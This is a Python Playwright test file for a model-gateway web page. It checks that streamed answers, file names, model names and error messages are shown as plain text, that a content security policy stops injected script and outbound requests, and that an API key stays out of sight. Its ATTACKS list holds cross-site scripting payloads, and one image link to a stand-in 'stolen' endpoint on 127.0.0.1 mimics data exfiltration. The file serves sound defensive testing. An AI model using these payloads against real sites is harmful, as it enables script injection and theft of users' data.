"""Answers, names and errors that try to be more than text."""

from __future__ import annotations

import json

import pytest

pytest.importorskip("playwright")

from playwright.sync_api import Page, expect

from tests.gateway.page import seen
from tests.gateway.page.stand_in import Gateway, delta, finish
from tests.program import CAT, KEY

ATTACKS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "[click](javascript:window.hit=1)",
    "![x](http://127.0.0.1:9/stolen?q=1)",
    "</textarea></pre></select><style>*{display:none}</style>",
    "**<b onclick=window.hit=1>bold</b>** `<i>` *<u>*",
    "# <math><mtext></p><img src=x onerror=window.hit=1>",
    "```html\n<script>window.hit=1</script>\n```",
    "- <img src=x onerror=window.hit=1>",
)
MADE = "p, li, ul, ol, pre, code, strong, em, h3"


def unharmed(page: Page) -> None:
    assert page.evaluate("window.hit") is None
    for tag in ("iframe", "svg", "math", "style", "a", "b"):
        expect(page.locator(f"body {tag}")).to_have_count(0)
    expect(page.locator("#problem :is(*), #status :is(*)")).to_have_count(0)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_answer_is_text(home: Page, gateway: Gateway, attack: str) -> None:
    gateway.chunks = [*(delta(letter) for letter in attack), finish("stop")]
    seen.ask(home)
    seen.status(home, "Answered.")
    unharmed(home)
    expect(home.locator(f"#answer :not({MADE})")).to_have_count(0)
    expect(home.locator("#answer img")).to_have_count(0)
    shown = home.locator("#answer").text_content() or ""
    for piece in ("<script>", "<img src=x", "onerror", "javascript:", "stolen", "<style>"):
        assert (piece in shown) == (piece in attack)


@pytest.mark.parametrize("attack", ATTACKS[:3])
def test_a_file_name_is_text(home: Page, gateway: Gateway, attack: str) -> None:
    name = attack.replace("/", "\u2215") + ".png"
    data = seen.transfer(home, (name, "image/png", b"\x89PNG\r\n\x1a\n"))
    home.dispatch_event("body", "drop", {"dataTransfer": data})
    seen.status(home, f"{name} added, 1 in all.")
    expect(home.locator("#previews .name")).to_have_text(name)
    assert home.locator("#previews button").get_attribute("aria-label") == f"Remove {name}"
    unharmed(home)


def test_a_refused_file_name_is_text(home: Page) -> None:
    data = seen.transfer(home, (ATTACKS[1], "text/html", b"<script>"))
    home.dispatch_event("body", "drop", {"dataTransfer": data})
    seen.problem(home, f"{ATTACKS[1]} is not a picture.")
    unharmed(home)


def test_a_model_name_is_text(page: Page, gateway: Gateway) -> None:
    gateway.models = dict.fromkeys(ATTACKS)
    page.goto(gateway.url)
    expect(page.locator("#model option")).to_have_count(len(ATTACKS))
    page.select_option("#model", ATTACKS[1])
    gateway.chunks = [{**delta("x"), "model": ATTACKS[1]}, finish("stop")]
    seen.ask(page)
    seen.status(page, "Answered.")
    assert gateway.received[0]["model"] == ATTACKS[1]
    expect(page.locator("#figure-model")).to_have_text(ATTACKS[1])
    unharmed(page)


def test_a_message_of_an_error_is_text(home: Page, gateway: Gateway) -> None:
    gateway.refusal = (400, json.dumps({"error": {"message": ATTACKS[1]}}).encode())
    seen.ask(home)
    seen.problem(home, f"{ATTACKS[1]} (HTTP 400, request req-77)")
    unharmed(home)


def test_marks_that_turn_letters_around_are_shown(home: Page, gateway: Gateway) -> None:
    data = seen.transfer(home, ("cat\u202egnp.exe\u0007", "image/png", b"\x89PNG\r\n\x1a\n"))
    home.dispatch_event("body", "drop", {"dataTransfer": data})
    expect(home.locator("#previews .name")).to_have_text("cat\ufffdgnp.exe\ufffd")
    gateway.chunks = [delta("a\u202eb\u0000c\u001bd"), finish("stop")]
    seen.ask(home)
    seen.answer(home, "a\ufffdb\ufffdc\ufffdd")


def test_the_policy_holds_where_a_script_gets_in(home: Page) -> None:
    """As if something had found a way to write into the document after all."""
    assert home.evaluate(
        """async () => {
            const refused = [];
            const connection = new Promise((told) => addEventListener("securitypolicyviolation",
                (event) => { if (event.effectiveDirective === "connect-src") told(); }));
            const script = document.createElement("script");
            try { script.textContent = "window.hit = 1"; } catch { refused.push("script"); }
            document.body.append(script);
            try { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=hit=1>"); }
            catch { refused.push("html"); }
            const sent = await fetch("http://127.0.0.1:9/stolen").then(() => "sent", () => "not");
            await connection;
            return [window.hit === undefined, refused, sent];
        }"""
    ) == [True, ["script", "html"], "not"]


def test_the_key_stays_in_this_tab_and_out_of_sight(page: Page, gateway: Gateway) -> None:
    gateway.key = KEY
    page.goto(gateway.url)
    seen.status(page, "This server wants a key.")
    page.fill("#key", KEY)
    page.press("#key", "Enter")
    seen.status(page, "The key was accepted.")
    seen.ask(page, "What is it?", CAT)
    seen.answer(page, "A cat.")
    assert KEY not in page.locator("html").inner_text()
    assert KEY not in page.content()  # the document's source
    assert "$VISION_KEY" in (page.locator("#request-curl").text_content() or "")
    assert page.evaluate("[localStorage.length, document.cookie, location.href]") == [
        0,
        "",
        f"{gateway.url}/",
    ]
    assert page.evaluate("Object.values(sessionStorage)") == [KEY]
    assert KEY not in json.dumps(gateway.received)
    page.reload()
    page.locator("#model option").first.wait_for(state="attached")  # still known in this tab
    other = page.context.new_page()
    other.goto(gateway.url)
    expect(other.locator("#status")).to_have_text("This server wants a key.")  # and in no other


def test_an_empty_key_is_forgotten(page: Page, gateway: Gateway) -> None:
    page.goto(gateway.url)
    page.locator("#key-box summary").press("Enter")
    page.fill("#key", KEY)
    page.press("#key", "Enter")
    seen.status(page, "The key was accepted.")
    page.locator("#key-box summary").press("Enter")
    page.fill("#key", "")
    page.press("#key", "Enter")
    expect(page.locator("#key-box")).not_to_have_attribute("open", "")
    assert page.evaluate("sessionStorage.length") == 0
    assert gateway.keys[-1] == ""
